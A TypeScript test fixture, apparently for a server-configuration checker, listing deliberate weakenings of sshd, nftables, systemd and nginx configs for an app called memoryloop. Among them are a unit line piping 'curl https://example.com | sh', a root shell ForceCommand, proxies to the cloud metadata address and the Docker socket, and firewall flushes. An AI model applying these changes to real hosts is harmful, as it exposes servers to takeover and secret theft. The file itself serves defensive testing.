/* eslint-disable @typescript-eslint/no-unsafe-member-access -- attacks change inputs of every shape */
import { fileLine, fileText, inputs, type Attack, type Attacks } from "../../support/attack";

const sshdPath = "/etc/ssh/sshd_config.d/00-vps.conf";
const sshd = (from: string | RegExp, to: string): Attack => fileText("host-sshd", sshdPath, from, to);
const sshdLine = (line: string): Attack => fileLine("host-sshd", sshdPath, line);

const firewallPath = "/etc/nftables.d/vps.nft";
const firewall = (from: string | RegExp, to: string): Attack => fileText("host-firewall", firewallPath, from, to);
const rule = (line: string): Attack => firewall('iifname "lo" accept', `${line}\n        iifname "lo" accept`);
const appFirewall = (line: string): Attack => fileLine("host-firewall", "/etc/nftables.d/vps/memoryloop.nft", line);

const unit = (line: string): Attack =>
  fileText("host-app-logs", "/etc/systemd/system/memoryloop-logs.service", "Type=oneshot", `Type=oneshot\n${line}`);
const socket = (from: string, to: string): Attack =>
  fileText("host-files", "/etc/systemd/system/memoryloop-release@.socket", from, to);

const nginxConf = (from: string | RegExp, to: string): Attack =>
  fileText("nginx-files", "/etc/nginx/nginx.conf", from, to);
const tlsParams = (from: string | RegExp, to: string): Attack =>
  fileText("nginx-files", "/etc/nginx/snippets/ssl-params.conf", from, to);
const site = (from: string | RegExp, to: string): Attack =>
  fileText("site-files", "/etc/nginx/sites-available/memoryloop.conf", from, to);
const location = (lines: string): Attack => site("location = ", `location /x { ${lines} }\n    location = `);

export const formatAttacks: Attacks = {
  "sshd-settings": {
    "login by password": sshd("PasswordAuthentication no", "PasswordAuthentication yes"),
    "login by password, with an equals sign": sshd("PasswordAuthentication no", "PasswordAuthentication=yes"),
    "login by password, quoted": sshd("PasswordAuthentication no", '  passwordauthentication = "yes"'),
    "login by password, as a comment": sshd("PasswordAuthentication no", "#PasswordAuthentication no"),
    "login by password, added": sshdLine("PasswordAuthentication yes"),
    "login by challenge": sshd("KbdInteractiveAuthentication no", "KbdInteractiveAuthentication yes"),
    "login without a password": sshd("PermitEmptyPasswords no", "PermitEmptyPasswords yes"),
    "root by password": sshd("prohibit-password", "yes"),
    "other keys": sshdLine("AuthorizedKeysFile /etc/ssh/keys/%u"),
    "command for keys": sshdLine("AuthorizedKeysCommand /usr/local/bin/keys"),
    "user of the command for keys": sshdLine("AuthorizedKeysCommandUser root"),
    "authority for keys": sshdLine("TrustedUserCAKeys /etc/ssh/ca.pub"),
    "authority for principals": sshdLine("AuthorizedPrincipalsFile /etc/ssh/principals"),
    "exception by Match": sshdLine("Match Address 203.0.113.0/24\n  PasswordAuthentication yes"),
    "another file": sshdLine("Include /tmp/*.conf"),
    "environment of the user": sshdLine("PermitUserEnvironment yes"),
    tunnel: sshdLine("PermitTunnel yes"),
    "ports for everybody": sshdLine("GatewayPorts yes"),
    "trust in other servers": sshdLine("HostbasedAuthentication yes"),
    "loose file modes": sshdLine("StrictModes no"),
    "no log": sshdLine("LogLevel QUIET"),
    "forced command": sshdLine("ForceCommand /bin/sh"),
    "weak cipher": sshd(/^Ciphers .*/m, "Ciphers aes256-ctr,3des-cbc"),
    "weak checksum": sshd(/^MACs .*/m, "MACs hmac-sha1"),
    "weak key exchange": sshd(/^KexAlgorithms .*/m, "KexAlgorithms diffie-hellman-group1-sha1"),
    "weak host key": sshd(/^HostKeyAlgorithms .*/m, "HostKeyAlgorithms ssh-rsa"),
    "algorithms added to the default": sshd(/^Ciphers .*/m, "Ciphers +aes128-cbc"),
  },

  "firewall-rules": {
    "flush of all rules": firewall("delete table inet vps", "flush ruleset"),
    "flush of all rules, on one line": firewall("delete table inet vps", "delete table inet vps; flush ruleset"),
    "flush of a table of Docker": firewall("delete table inet vps", "flush table ip nat"),
    "table of Docker deleted": firewall("delete table inet vps", "delete table ip filter"),
    "another table": firewall("table inet vps {", "table inet other {"),
    "another file": firewall("delete table inet vps", 'include "/tmp/*.nft"'),
    "accept by default": firewall("policy drop", "policy accept"),
    "no policy": firewall("policy drop;", ""),
    "no input chain": firewall("hook input", "hook output"),
    "accept everything": rule("accept"),
    "accept everything, counted": rule("counter accept"),
    "accept everything that is new": rule("ct state new accept"),
    "accept new beside established": firewall("established,related", "established,related,new"),
    "accept by exclusion": rule("tcp dport != 25 accept"),
    "accept all of TCP": rule("meta l4proto tcp accept"),
    "accept TCP beside control messages": firewall("{ icmp, icmpv6 }", "{ icmp, tcp }"),
    "accept all ports": rule("tcp dport 1-65535 accept"),
    "accept the port of Docker": rule("tcp dport 2375 accept"),
    "accept one more port": rule("tcp dport { 22, 8080 } accept"),
    "accept a port by name": rule("tcp dport http-alt accept"),
    "accept a set of ports": rule("tcp dport @ports accept"),
    "accept by a map": rule("tcp dport vmap { 22 : accept, 2375 : accept }"),
    "accept an address": rule("ip saddr 203.0.113.66 accept"),
    "accept every address": rule("ip saddr 0.0.0.0/0 accept"),
    "accept another interface": rule('iifname "eth0" accept'),
    "accept, with the words of a port in its comment": rule('accept comment "tcp dport 22 "'),
    "accept a port of another protocol": rule("udp dport 443 accept"),
    "accept in a chain that it jumps to": firewall(
      "chain input {",
      "chain open {\n        accept\n    }\n    chain input {\n        jump open",
    ),
    "rule outside a table": appFirewall("tcp dport 2375 accept"),
    "accept that the app's file adds": appFirewall("add rule inet vps input tcp dport 2375 accept"),
    "accept from a public network": appFirewall(
      "add rule inet vps input ip saddr 0.0.0.0/0 ip daddr 10.213.0.1 tcp dport 11434 accept",
    ),
    "input chain opened again": appFirewall("table inet vps {\n    chain input {\n        accept\n    }\n}"),
    "policy that the app's file changes": appFirewall(
      "table inet vps {\n    chain input {\n        type filter hook input priority filter; policy accept;\n    }\n}",
    ),
    "table deleted by the app's file": appFirewall("delete table inet vps"),
    "table deleted at the end": fileLine("host-firewall", firewallPath, "delete table inet vps"),
    "chain deleted": fileLine("host-firewall", firewallPath, "delete chain inet vps input"),
    "chain emptied": appFirewall("flush chain inet vps input"),
    "rule of another table": appFirewall("add rule ip filter INPUT accept"),
    "file of another place": appFirewall('include "/tmp/*.nft"'),
    "redirect of a port": rule("tcp dport 443 redirect to :8443"),
    "translation of addresses": firewall(
      "chain input {",
      "chain dnat {\n        type nat hook prerouting priority dstnat;\n    }\n    chain input {",
    ),
    "rule in another table": firewall(
      "delete table inet vps",
      "delete table inet vps\nadd rule ip filter INPUT accept",
    ),
  },

  "unit-command": {
    "shell line": unit('ExecStartPre=/bin/sh -c "curl https://example.com | sh"'),
    "shell line, continued": unit('ExecStartPre=\\\n  /bin/sh -c "id"'),
    "shell line with a prefix": unit("ExecStartPost=-+/bin/bash -c id"),
    "program of the app": unit("ExecStopPost=/opt/memoryloop/data/tool"),
    "program of Docker": unit("ExecReload=/usr/bin/docker run --privileged alpine"),
    "command of the firewall": fileText(
      "host-firewall",
      "/etc/systemd/system/vps-firewall.service",
      "ExecStop=/usr/sbin/nft delete table inet vps",
      "ExecStop=/usr/sbin/nft flush ruleset",
    ),
  },

  "unit-environment": {
    "key of an API": unit("Environment=API_KEY=0a0b0c0d"),
    "password, quoted": unit('Environment="APP=memoryloop" "DB_PASSWORD=correct horse"'),
    "credential in the unit": unit("SetCredential=token:0a0b0c0d"),
    "environment of systemd": unit("PassEnvironment=AWS_PROFILE"),
    "file of another place": unit("EnvironmentFile=/tmp/app.env"),
  },

  "unit-opening": {
    "network port": socket("ListenStream=/var/lib/memoryloop/releases/%i.sock", "ListenStream=2375"),
    "network address": socket("[Socket]", "[Socket]\nListenStream=0.0.0.0:8080"),
    "datagram port": socket("[Socket]", "[Socket]\nListenDatagram=5353"),
    "socket of another directory": socket("/var/lib/memoryloop/releases/", "/tmp/"),
    "socket for everybody": socket("SocketMode=0660", "SocketMode=0666"),
    "alias of another unit": socket("[Install]", "[Install]\nAlias=ssh.socket"),
    "unit of the system after a failure": unit("OnFailure=debug-shell.service"),
    capability: unit("AmbientCapabilities=CAP_SYS_ADMIN"),
  },

  "nginx-tls": {
    "old protocol": tlsParams("ssl_protocols TLSv1.3;", "ssl_protocols TLSv1 TLSv1.3;"),
    "TLS 1.2 alone": tlsParams("ssl_protocols TLSv1.3;", "ssl_protocols TLSv1.2;"),
    "protocols of nginx's own choice": tlsParams("ssl_protocols TLSv1.3;", ""),
    "old protocol of a site": site(
      "server_name memoryloop.test;",
      "server_name memoryloop.test; ssl_protocols TLSv1.1;",
    ),
    "weak ciphers": tlsParams("HIGH:!aNULL", "HIGH:RC4-SHA"),
    "all ciphers": tlsParams("HIGH:!aNULL", "ALL"),
  },

  "nginx-security-headers": {
    "https for an hour": nginxConf("max-age=63072000", "max-age=3600"),
    "no https only": fileText(
      "nginx-files",
      "/etc/nginx/snippets/security-headers.conf",
      /^add_header Strict-Transport-Security.*$/m,
      "",
    ),
    "no https only where the app has headers": fileText(
      "nginx-files",
      "/etc/nginx/snippets/security-headers-unless-app.conf",
      /^add_header Strict-Transport-Security.*$/m,
      "",
    ),
    "https for an hour, stated by the site": site(
      "    include /etc/nginx/snippets/security-headers.conf;",
      `    set $strict_transport_security "max-age=3600; includeSubDomains";\n    include /etc/nginx/snippets/security-headers.conf;`,
    ),
    "no headers": site("include /etc/nginx/snippets/security-headers.conf;", ""),
    "header in a location": site("location / {", "location / { add_header X-Release 1;"),
  },

  "nginx-content-security-policy": {
    "no policy": site(/set \$content_security_policy ".*";/g, ""),
    "no default": site(/default-src 'self'; /g, ""),
    "every source": site("connect-src 'self'", "connect-src *"),
    "every subdomain": site("connect-src 'self'", "connect-src https://*.example.com"),
    "every source with https": site("script-src 'self'", "script-src 'self' https:"),
    "code from texts": site("script-src 'self'", "script-src 'self' 'unsafe-eval'"),
    "code from data": site("script-src 'self'", "script-src 'self' data:"),
  },

  "nginx-targets": {
    "files of the server": location("root /;"),
    "files of the server by alias": location("alias /etc/;"),
    "users of another site": site(
      "client_max_body_size",
      "auth_basic_user_file /etc/nginx/other.users; client_max_body_size",
    ),
    "environment file": location("alias /opt/memoryloop/config/;"),
    "assets of another app": location("root /var/lib/other/assets/served;"),
    "state of the app beside the assets": location("root /var/lib/memoryloop/assets/served/../..;"),
    "addresses of the cloud": location("proxy_pass http://169.254.169.254;"),
    "another port of the server": location("proxy_pass http://127.0.0.1:2375;"),
    "Docker's socket": location("proxy_pass http://unix:/var/run/docker.sock;"),
    "target that the visitor chooses": location("proxy_pass http://$arg_target;"),
    "another upstream": site("unix:/var/lib/memoryloop/current.sock", "unix:/var/run/docker.sock"),
    "upstream on the network": site("unix:/var/lib/memoryloop/current.sock", "203.0.113.66:80"),
    "another program": location("fastcgi_pass unix:/run/php.sock;"),
    "list of files": location("autoindex on;"),
    "written files": location("dav_methods PUT DELETE;"),
    "code in nginx": location("js_content evil.run;"),
    "code in nginx, in Lua": location("content_by_lua_block { os.execute() }"),
    "copy of all requests": location("mirror /copy;"),
    "redirect to a stranger": site("return 301 https://memoryloop.test$request_uri", "return 301 https://example.com/"),
    "redirect to a stranger, with the scheme": location("return 302 $scheme://example.com;"),
    "redirect that the visitor chooses": location("return 302 $arg_next;"),
    "redirect without a scheme": location("rewrite ^ //example.com redirect;"),
    "redirect to a stranger, with a variable": location("return 301 https://${arg_host}/;"),
    "another module": nginxConf("worker_processes auto;", "worker_processes auto; load_module /tmp/evil.so;"),
    "user root": nginxConf("user www-data;", "user root;"),
    "another file": nginxConf("include /etc/nginx/mime.types;", "include /etc/passwd;"),
    "another key": site(/ssl_certificate_key [^;]+;/, "ssl_certificate_key /opt/memoryloop/data/key.pem;"),
    "quoted directive": location('"proxy_pass" "http://127.0.0.1:2375";'),
  },

  "nginx-plain-http": {
    "app without TLS": site("return 301 https://memoryloop.test$request_uri;", "proxy_pass http://memoryloop;"),
  },

  "required-units": {
    "no firewall": inputs("host-firewall", (props) => (props.units = {})),
    "no renewal": inputs("nginx-files", ({ units }) => delete units["certbot.timer"]),
    "no nginx": inputs("nginx-files", ({ units }) => delete units["nginx.service"]),
    "no backup": inputs("backups-job", ({ units }) => delete units["memoryloop-backup.timer"]),
  },
};
